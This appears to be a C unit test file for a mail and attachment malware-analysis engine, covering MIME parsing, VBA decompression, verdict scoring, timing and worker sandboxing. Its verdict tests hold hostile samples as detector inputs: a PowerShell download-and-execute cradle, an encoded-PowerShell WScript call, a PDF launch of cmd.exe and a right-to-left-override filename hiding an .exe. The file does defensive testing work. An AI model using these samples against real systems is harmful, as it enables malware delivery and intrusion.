/* SPDX-License-Identifier: BSD-3-Clause
 *
 * control/analysis: what the pieces say, that limits hold, that time grows with the input and not with its square, and
 * that a worker has no rights left.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "control/analysis/confine.h"
#include "control/analysis/mime.h"
#include "control/analysis/vba.h"

static struct analysis *analyse(const char *name, const void *data, size_t len)
{
	const struct analysis_tools tools = {.clamd = -1};
	struct analysis *a = analysis_new(&ANALYSIS_LIMITS_DEFAULT, &tools);

	assert_non_null(a);
	analysis_run(a, name, "", data, len);
	return a;
}

/* ---- pieces ---- */

/* The examples of MS-OVBA 3.2. */
static void vba_containers(void **state)
{
	static const uint8_t none[] = {0x01, 0x19, 0xb0, 0x00, 'a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 0x00, 'i', 'j',
				       'k', 'l', 'm', 'n', 'o', 'p', 0x00, 'q', 'r', 's', 't', 'u', 'v', '.'};
	static const uint8_t some[] = {0x01, 0x2f, 0xb0, 0x00, '#', 'a', 'a', 'a', 'b', 'c', 'd', 'e', 0x82, 'f', 0x00, 'p',
				       'a', 'g', 'h', 'i', 'j', 0x01, '8', 0x08, 'a', 'k', 'l', 0x00, '0', 'm', 'n', 'o',
				       'p', 0x06, 'q', 0x02, 'p', 0x04, 0x10, 'r', 's', 't', 'u', 'v', 0x10, 'w', 'x', 'y', 'z', 0x00, '<'};
	static const uint8_t most[] = {0x01, 0x03, 0xb0, 0x02, 'a', 0x45, 0x00};
	static const char some_text[] = "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa";
	struct bytes out = vba_decompress((struct bytes){none, sizeof(none)});

	assert_int_equal(out.len, 23);
	assert_memory_equal(out.data, "abcdefghijklmnopqrstuv.", 23);
	free((void *)(uintptr_t)out.data);
	out = vba_decompress((struct bytes){some, sizeof(some)});
	assert_int_equal(out.len, sizeof(some_text) - 1);
	assert_memory_equal(out.data, some_text, out.len);
	free((void *)(uintptr_t)out.data);
	out = vba_decompress((struct bytes){most, sizeof(most)});
	assert_int_equal(out.len, 73);
	free((void *)(uintptr_t)out.data);
	assert_null(vba_decompress((struct bytes){(const uint8_t *)"\2\3", 2}).data);
}

static void names_of_attachments(void **state)
{
	static const struct {
		const char *header, *name;
	} rows[] = {
		{"attachment; filename=\"a b.txt\"", "a b.txt"},
		{"attachment; filename=a.txt; size=3", "a.txt"},
		{"attachment; filename*=utf-8''na%C3%AFve.txt", "na\xc3\xafve.txt"},
		{"attachment; filename*=iso-8859-1'en'%E9.txt", "\xc3\xa9.txt"},
		{"attachment; filename*0=\"inv\"; filename*1=\"oice.exe\"", "invoice.exe"},
		{"attachment; filename*0*=utf-8''a%20; filename*1=\"b.txt\"", "a b.txt"},
		{"attachment; filename=a.txt; filename*=utf-8''b.exe", "b.exe"},
		{"attachment; filename=a.txt; filename*0=b; filename*1=.exe", "b.exe"},
		{"attachment; filename*0=b; filename*1=.exe; filename=a.txt", "b.exe"},
		{"attachment; filename=\"=?iso-8859-1*en?Q?=E9?=\"", "\xc3\xa9"},
		{"attachment; filename=\"=?utf-8?B?aW52b2ljZS5leGU=?=\"", "invoice.exe"},
		{"attachment; filename=\"=?utf-8?Q?in?= =?utf-8?Q?voice=2Eexe?=\"", "invoice.exe"},
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct mime_entity e = {.encoding = MIME_PLAIN};

		mime_entity_header(&e, "Content-Disposition", rows[i].header);
		assert_string_equal(e.name, rows[i].name);
	}
}

/* Mails that are not written as they must be, but that readers read. */
static void odd_mails(void **state)
{
	static const struct {
		const char *text, *parts;
	} rows[] = {
		{"Content-Type : multipart/mixed; boundary=b\n\n--b\nContent-Disposition\t: attachment; filename=f\n\nx\n--b--\n", "f:1;"},
		{"Content-Type: multipart/mixed; boundary=b\n\n--b and more\nContent-Disposition: attachment; filename=f\n\nx\n--b!\n\ny\n--b--\n", "f:1;:1;"},
		{"Content-Type: multipart/mixed; boundary=bb\n\n--bb\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\nx\n--bb\n\ny\n--bb--\n", ":1;:1;"},
		{"Content-Transfer-Encoding: \"base64\"\nContent-Disposition: attachment; filename=f\n\nYQ==Yg==\nYw\n", "f:3;"},
	};
	char text[256];

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct analysis *a = analyse("m.eml", rows[i].text, strlen(rows[i].text));
		size_t n = 0;

		text[0] = '\0';
		for (const struct part *p = analysis_root(a)->first; p; p = p->next)
			n += (size_t)snprintf(text + n, sizeof(text) - n, "%s:%u;", p->name, (unsigned)p->size);
		assert_string_equal(text, rows[i].parts);
		analysis_free(a);
	}
}

static void verdict_of(const char *name, const char *text, unsigned least, unsigned most)
{
	struct analysis *a = analyse(name, text, strlen(text));

	assert_in_range(analysis_verdict(a), least, most);
	analysis_free(a);
}

static void verdicts(void **state)
{
	verdict_of("a.txt", "hello", 0, 0);
	verdict_of("a.js", "document.write(unescape('%41')); eval('1')", 0, 0); /* as pages have it */
	verdict_of("a.js", "new ActiveXObject('WScript.Shell').Run('powershell -enc AAAA')", 5, 8);
	verdict_of("a.ps1", "Get-ChildItem | Sort-Object Length", 0, 1);
	verdict_of("a.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://x')", 5, 7);
	verdict_of("\xe2\x80\xaegpj.exe", "x", 6, 6);
	verdict_of("a.pdf", "%PDF-1.4\n1 0 obj<</Type/Catalog/AcroForm 2 0 R/OpenAction[3 0 R/Fit]>>endobj", 0, 0);
	verdict_of("a.pdf", "%PDF-1.4\n1 0 obj<</S/#4caunch/F(cmd.exe)>>endobj", 7, 8);
}

/* The weights of distinct reasons meet as chances do; one twice counts once. */
static void reasons_meet(void **state)
{
	static const char once[] = "From: a@b\nSubject: c\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n"
				   "--x\nContent-Disposition: attachment; filename=a.vbs\n\nMsgBox 1\n--x--\n";
	static const char twice[] = "From: a@b\nSubject: c\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n"
				    "--x\nContent-Disposition: attachment; filename=a.vbs\n\nMsgBox 1\n"
				    "--x\nContent-Disposition: attachment; filename=b.vbs\n\nMsgBox 1\n--x--\n";

	verdict_of("m.eml", once, 4, 4);
	verdict_of("m.eml", twice, 4, 4);
}

static void loops_in_compound_files_end(void **state)
{
	static uint8_t file[512 * 9];
	struct cfb c;

	/* Every sector's next one is itself; the folder is sector 1, the table sector 0. */
	memcpy(file, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
	file[30] = 9;
	file[32] = 6;
	file[48] = 1;
	memset(file + 60, 0xff, 16);
	memset(file + 80, 0xff, 432);
	file[76] = file[77] = file[78] = file[79] = 0;
	for (unsigned i = 0; i < 128; i++)
		file[512 + 4 * i] = (uint8_t)i;
	file[1024 + 66] = CFB_ROOT;
	file[1024 + 76] = 1; /* its child is entry 1, whose siblings are itself */
	file[1024 + 128 + 66] = CFB_STORAGE;
	file[1024 + 128 + 68] = file[1024 + 128 + 72] = file[1024 + 128 + 76] = 1;
	assert_true(cfb_open(&c, (struct bytes){file, sizeof(file)}));
	assert_int_equal(c.entry[1].parent, 0);
	cfb_close(&c);
}

/* ---- time ---- */

static const struct {
	const char *name, *begin, *again;
	uint8_t again_len; /* 0: as a text */
} hostile[] = {
	{"a.pdf", "%PDF-1.4\n", "/JS(", 0},
	{"a.pdf", "%PDF-1.4\n", "((((", 0},
	{"a.pdf", "%PDF-1.4\n", "1 0 obj<</JS 1 0 R>>stream\nx", 0},
	{"a.pdf", "%PDF-1.4\n", "1 0 obj<</Type/ObjStm/Filter/Fl>>stream\nxx endstream ", 0},
	{"a.pdf", "%PDF-1.4\n", "/Launch/F<41", 0},
	{"a.rtf", "{\\rtf1", "{\\objdata 4142", 0},
	{"a.rtf", "{\\rtf1", "{\\*\\template ", 0},
	{"a.rtf", "{\\rtf1", "\\", 0},
	{"m.eml", "Content-Type: multipart/mixed; boundary=x\n\n", "--x\n", 0},
	{"m.eml", "Content-Type: multipart/mixed; boundary=x\n\n", "--x\nContent-Type: multipart/mixed; boundary=x\n\n", 0},
	{"m.eml", "Subject: x\n", "a: b\n c\n", 0},
	{"m.eml", "Subject: x\n\n", "begin 644 a\n", 0},
	{"m.eml", "Subject: x\n\n", "password ", 0},
	{"a.vbs", "createobject(", "chr(", 0},
	{"a.html", "<html>", "blob(atob(createobjecturl download AAAA", 0},
	{"a.zip", "PK\3\4", "PK\3\4", 0},
	{"a.zip", "PK\5\6", "PK\1\2", 0},
	{"a.tar", "", "\0", 1},
	{"a.gz", "\x1f\x8b\x08", "\x1f\x8b\x08", 0},
	{"winmail.dat", "\x78\x9f\x3e\x22xx", "\2\x0f\x80\x06\0\0\0\0\0\0\0", 11},
	{"a.doc", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "\1\0\0\0", 4},
};

#define HOSTILE_BYTES (192u << 10)
#define NOTHING_S 0.02 /* too short to be compared */

static double seconds_for(size_t row, size_t len)
{
	char *data = malloc(len);
	size_t n = strlen(hostile[row].begin), step = hostile[row].again_len ? hostile[row].again_len : strlen(hostile[row].again);
	clock_t begin;
	double s;

	assert_non_null(data);
	memcpy(data, hostile[row].begin, n);
	for (; n < len; n += step)
		memcpy(data + n, hostile[row].again, step < len - n ? step : len - n);
	begin = clock();
	analysis_free(analyse(hostile[row].name, data, len));
	s = (double)(clock() - begin) / CLOCKS_PER_SEC;
	free(data);
	return s;
}

static void time_is_linear(void **state)
{
	for (size_t i = 0; i < sizeof(hostile) / sizeof(hostile[0]); i++) {
		double one = seconds_for(i, HOSTILE_BYTES), eight = seconds_for(i, 8 * HOSTILE_BYTES);

		if (eight > NOTHING_S && eight > 24 * (one > NOTHING_S / 8 ? one : NOTHING_S / 8))
			fail_msg("%s with \"%s\" again and again: %.3f s, and %.3f s for eight times as much", hostile[i].name,
				 hostile[i].again, one, eight);
	}
}

static void cut_anywhere(void **state)
{
	static const char pdf[] = "%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n"
				  "2 0 obj<</Type/EmbeddedFile/Filter/FlateDecode>>stream\nx\nendstream";
	static const char mail[] = "From: a@b\nSubject: =?utf-8?Q?x?=\nContent-Type: multipart/mixed; boundary=x\n\n--x\n"
				   "Content-Type: a/b; name*0*=u''%41; name*1=b\nContent-Transfer-Encoding: base64\n\nQUJD\n--x--\n";

	for (size_t n = 0; n <= sizeof(pdf) - 1; n++)
		analysis_free(analyse("a.pdf", pdf, n));
	for (size_t n = 0; n <= sizeof(mail) - 1; n++)
		analysis_free(analyse("a.eml", mail, n));
}

/* ---- the worker's rights ---- */

#if !METSUKE_SANITIZED
enum { RIGHT_OPEN = 1, RIGHT_SOCKET = 2, RIGHT_FORK = 4, RIGHT_CODE = 8, RIGHT_KILL = 16, RIGHT_MEMORY = 32, CANNOT = 64 };

static void try_everything(void)
{
	int left = 0;

	if (confine_worker(64u << 20, 5, 1u << 20) != 0)
		_exit(CANNOT);
	left |= open("/etc/passwd", O_RDONLY) >= 0 || open("/tmp/x", O_CREAT | O_WRONLY, 0600) >= 0 ? RIGHT_OPEN : 0;
	left |= socket(AF_UNIX, SOCK_STREAM, 0) >= 0 || socket(AF_INET, SOCK_STREAM, 0) >= 0 ? RIGHT_SOCKET : 0;
	left |= fork() >= 0 ? RIGHT_FORK : 0;
	left |= mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0) != MAP_FAILED ? RIGHT_CODE : 0;
	left |= kill(getppid(), 0) == 0 ? RIGHT_KILL : 0;
	left |= mmap(NULL, 1u << 30, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0) != MAP_FAILED ? RIGHT_MEMORY : 0;
	_exit(left);
}

static void no_right_is_left(void **state)
{
	int status;
	pid_t pid = fork();

	if (pid == 0)
		try_everything();
	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_true(WIFEXITED(status));
	assert_int_equal(WEXITSTATUS(status), 0);
}
#endif

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(vba_containers),
		cmocka_unit_test(names_of_attachments), cmocka_unit_test(odd_mails),
		cmocka_unit_test(verdicts),
		cmocka_unit_test(reasons_meet),
		cmocka_unit_test(loops_in_compound_files_end),
		cmocka_unit_test(time_is_linear),
		cmocka_unit_test(cut_anywhere),
#if !METSUKE_SANITIZED
		cmocka_unit_test(no_right_is_left),
#endif
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
